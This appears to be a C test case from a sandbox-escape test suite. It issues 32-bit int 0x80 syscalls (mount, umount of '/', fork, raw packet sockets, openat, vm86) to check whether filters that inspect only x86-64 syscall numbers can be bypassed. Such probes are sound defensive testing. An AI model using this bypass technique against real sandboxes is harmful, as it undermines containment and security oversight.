/* class: kernel
 * what: calls through int 0x80: its numbers mean other calls, and most filters look at x86-64 numbers only
 */
#include "attack.h"

static int getpid_(void)
{
    return int80(20, 0, 0, 0, 0, 0) < 0 ? errno : 0;
}
static int umount_(void)
{
    char *p = low_page();
    if (!p)
        return ENOMEM;
    strcpy(p, "/");
    return int80(52, (long)p, 4 /* MNT_EXPIRE */, 0, 0, 0) < 0 ? errno : 0;
}
static int mount_(void)
{
    char *p = low_page();
    if (!p)
        return ENOMEM;
    strcpy(p, "none");
    strcpy(p + 16, "/" OURS "none");
    strcpy(p + 64, "tmpfs");
    return int80(21, (long)p, (long)(p + 16), (long)(p + 64), 0, 0) < 0 ? errno : 0;
}
static int fork_(void)
{
    long pid = int80(2, 0, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return pid < 0 ? errno : 0;
}
static int socket_(void)
{
    long *unused = low_page();
    uint32_t *p = (uint32_t *)unused;
    if (!p)
        return ENOMEM;
    p[0] = 17, p[1] = 3, p[2] = 0; /* AF_PACKET, SOCK_RAW */
    return int80(102 /* socketcall */, 1, (long)p, 0, 0, 0) < 0 ? errno : 0;
}
static int openat_(void)
{
    char *p = low_page();
    if (!p)
        return ENOMEM;
    strcpy(p, "/");
    return int80(295, AT_FDCWD, (long)p, O_RDONLY, 0, 0) < 0 ? errno : 0;
}
static int vm86old(void)
{
    return int80(166, 0, 0, 0, 0, 0) < 0 ? errno : 0;
}

int main(void)
{
    attempt("getpid", getpid_);
    attempt("umount", umount_);
    attempt("mount", mount_);
    attempt("fork", fork_);
    attempt("socketcall packet", socket_);
    attempt("openat", openat_);
    attempt("vm86", vm86old);
    verdict();
}
